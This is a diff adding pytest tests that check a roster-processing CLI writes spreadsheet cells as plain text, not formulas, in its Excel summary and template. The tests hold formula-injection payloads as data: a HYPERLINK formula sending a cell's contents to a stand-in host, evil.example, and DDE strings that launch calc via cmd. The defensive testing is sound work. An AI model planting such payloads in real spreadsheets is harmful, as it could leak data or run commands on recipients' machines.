@@ -144,3 +144,46 @@ def test_an_output_folder_inside_the_inputs_is_refused(tmp_path, cli, where):
         code, _, err = cli("batch", roster, "-o", out, "-j", "1", "--as-of", "2022-08-01")
     assert code == 2 and "之内" in err and "Traceback" not in err
     assert not (out / "report.json").exists()
+
+
+# --------------------------------------------------------------------------- never run
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&D2,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd| calc!A0"]
+
+
+def test_every_cell_of_the_summary_holds_text_never_a_formula(tmp_path):
+    """A name, unit or folder written as a formula or DDE call is shown as typed in 汇总表.xlsx."""
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    rows = [dict(S.ROWS[2], 姓名=FORMULAS[0], 单位=FORMULAS[1]), dict(S.ROWS[3], 单位=FORMULAS[2])]
+    roster = write_xlsx(tmp_path / "r.xlsx", rows)
+    wb = load_workbook(roster)
+    for row in wb.active.iter_rows():
+        for c in row:
+            c.data_type = "s" if c.data_type == "f" else c.data_type  # the clerk typed text
+    wb.save(roster)
+    att = attachments(tmp_path / "att", {FORMULAS[3]: ["身份证.jpg"]})
+    out = tmp_path / "out"
+    res = _batch(roster, out, att)
+    assert [r["name"] for r in res.rows] == [FORMULAS[0], S.ROWS[3]["姓名"]]
+    with zipfile.ZipFile(out / "汇总表.xlsx") as z:
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)
+    wb = load_workbook(out / "汇总表.xlsx")
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    typed = {c.value: c for c in cells if c.value in FORMULAS}
+    assert set(typed) == set(FORMULAS)
+    assert all(c.data_type == "s" and c.quotePrefix for c in typed.values())
+
+
+def test_the_roster_template_holds_its_choices_as_text(tmp_path, monkeypatch, cli):
+    """The template's drop-down lists name the regions found, user region files included."""
+    import zipfile
+
+    monkeypatch.setattr("titlecli.roster_template._choice_labels", lambda c: ["=1+1", "+cmd|' /C calc'!A0"])
+    assert cli("batch", "--template", tmp_path / "t.xlsx")[0] == 0
+    with zipfile.ZipFile(tmp_path / "t.xlsx") as z:
+        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
